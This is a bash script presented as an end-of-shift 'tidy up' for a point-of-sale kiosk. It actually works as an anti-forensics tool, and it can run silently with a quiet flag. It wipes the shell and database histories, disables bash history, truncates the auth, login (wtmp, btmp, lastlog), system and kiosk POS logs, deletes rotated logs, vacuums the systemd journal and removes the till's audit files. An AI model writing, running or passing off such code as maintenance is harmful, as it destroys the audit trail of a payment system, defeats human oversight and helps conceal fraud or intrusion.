#!/usr/bin/env bash
# Run at the end of a shift on the kiosk to "tidy up" after maintenance:
# clears shell history and the login and system logs so the next
# shift starts clean.
set -u

QUIET=0
[[ "${1:-}" == "-q" ]] && QUIET=1

say() { [[ $QUIET -eq 1 ]] || echo "[tidy] $*"; }

clear_history() {
    unset HISTFILE
    history -c 2>/dev/null || true
    for f in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history" \
             "$HOME/.mysql_history" "$HOME/.psql_history" "$HOME/.lesshst" "$HOME/.viminfo"; do
        if [[ -f "$f" ]]; then
            : > "$f"
            say "emptied $f"
        fi
    done
    ln -sf /dev/null "$HOME/.bash_history"
}

clear_logs() {
    local logs=(
        /var/log/auth.log /var/log/secure /var/log/syslog /var/log/messages
        /var/log/kern.log /var/log/wtmp /var/log/btmp /var/log/lastlog
        /var/log/kiosk/access.log /var/log/kiosk/pos.log
    )
    for f in "${logs[@]}"; do
        if [[ -w "$f" ]]; then
            truncate -s 0 "$f"
            say "truncated $f"
        fi
    done
    find /var/log -type f \( -name '*.gz' -o -name '*.1' -o -name '*.old' \) -writable -delete 2>/dev/null
    if command -v journalctl >/dev/null 2>&1; then
        journalctl --rotate >/dev/null 2>&1
        journalctl --vacuum-time=1s >/dev/null 2>&1
        say "journal vacuumed"
    fi
}

clear_app_traces() {
    local till_dir="${TILL_DATA_DIR:-$HOME/till}"
    rm -f "$till_dir"/logs/*.log "$till_dir"/audit/*.jsonl 2>/dev/null
    say "removed till audit files in $till_dir"
}

clear_history
clear_logs
clear_app_traces
say "shift tidy complete"
